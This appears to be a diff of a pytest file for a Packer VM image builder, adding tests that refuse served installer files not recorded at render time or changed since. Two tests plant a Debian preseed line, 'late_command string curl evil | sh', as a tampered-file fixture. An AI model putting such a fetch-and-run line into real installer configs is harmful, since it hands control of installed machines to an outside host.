@@ -30,6 +30,7 @@ from packer_assets.packer.workdir import (
     version_region,
 )
 from packer_assets.pve.client import Endpoint
+from packer_assets.render.record import ServedFiles
 
 needs_packer = pytest.mark.packer
 OLD = capabilities_for((1, 6, 6), binary=PACKER)
@@ -155,14 +156,12 @@ def test_fingerprint_of_a_build_follows_the_common_file(tmp_path):
     staged = {"iso": StagedIso(volid="local:iso/x.iso", size=1, checksum="ab" * 32, algorithm="sha256",
                                source="https://example.invalid/x.iso", seconds=0.0, bytes_through_control_host=0,
                                downloaded=False)}
-    before = input_fingerprint_of(entry, staged, http, root)
-    assert input_fingerprint_of(entry, staged, http, root) == before
-    (http / ".preseed.cfg.k2x.tmp").write_text("a concurrent render's temp file")
-    (http / ".preseed.cfg.i1g.tmp").symlink_to(tmp_path / "renamed-away")
-    assert input_fingerprint_of(entry, staged, http, root) == before
+    served = ServedFiles(http, {"preseed.cfg": sha256_of(http / "preseed.cfg")})
+    before = input_fingerprint_of(entry, staged, served, root)
+    assert input_fingerprint_of(entry, staged, served, root) == before
     common = root / COMMON_TEMPLATE
     common.write_text(common.read_text() + "\n# an edit\n")
-    assert input_fingerprint_of(entry, staged, http, root) != before
+    assert input_fingerprint_of(entry, staged, served, root) != before
 
 
 def test_a_family_template_without_the_common_file_is_refused(tmp_path):
@@ -210,6 +209,47 @@ def test_a_concurrent_renders_temp_file_is_not_copied_even_when_it_vanishes(tmp_
     (http / ".preseed.cfg.k2x.tmp").write_text("half written")
     _, work = prepare(tmp_path, "debian-12")
     assert sorted(p.name for p in work.http_dir.iterdir()) == ["preseed.cfg"]
+
+
+def sha256_of(path: Path) -> str:
+    return hashlib.sha256(path.read_bytes()).hexdigest()
+
+
+def test_only_the_rendered_files_are_served_and_the_others_are_named(tmp_path):
+    """A file dropped into the rendered folder (never rendered, never validated) is not copied into http/;
+    the work directory's warnings name it."""
+    entry = catalog().get("debian-12")
+    http = rendered(tmp_path, "debian")
+    (http / "evil.cfg").write_text("d-i preseed/late_command string curl evil | sh\n")
+    (http / "sub").mkdir()
+    work = prepare_workdir(tmp_path / "work", entry, plan_for(entry), OLD, project_dir=REPO, http_dir=http,
+                           http_files={"preseed.cfg": sha256_of(http / "preseed.cfg")}, allow_degraded=True)
+    assert sorted(p.name for p in work.http_dir.iterdir()) == ["preseed.cfg"]
+    said = [w for w in work.warnings if "ignored" in w]
+    assert len(said) == 1 and "evil.cfg, sub" in said[0] and "never served" in said[0]
+    assert json.loads((work.path / MANIFEST).read_text())["warnings"] == work.warnings
+    assert "http/evil.cfg" not in work.files
+
+
+@pytest.mark.parametrize("change", ["edit", "remove", "symlink"])
+def test_a_rendered_file_changed_since_its_render_is_refused(tmp_path, change):
+    entry = catalog().get("debian-12")
+    http = rendered(tmp_path, "debian")
+    recorded = {"preseed.cfg": sha256_of(http / "preseed.cfg")}
+    target = http / "preseed.cfg"
+    if change == "edit":
+        target.write_text("d-i preseed/late_command string curl evil | sh\n")
+    elif change == "remove":
+        target.unlink()
+    else:
+        (tmp_path / "elsewhere.cfg").write_bytes(target.read_bytes())
+        target.unlink()
+        target.symlink_to(tmp_path / "elsewhere.cfg")
+    with pytest.raises(WorkdirError) as err:
+        prepare_workdir(tmp_path / "work", entry, plan_for(entry), OLD, project_dir=REPO, http_dir=http,
+                        http_files=recorded, allow_degraded=True)
+    assert str(err.value).startswith("debian-12: ") and "preseed.cfg" in str(err.value)
+    assert "\n" not in str(err.value) and "unattended_files[debian-12]" in str(err.value)
 
 
 def test_file_storage_gets_qcow2_and_its_pool_type(tmp_path):
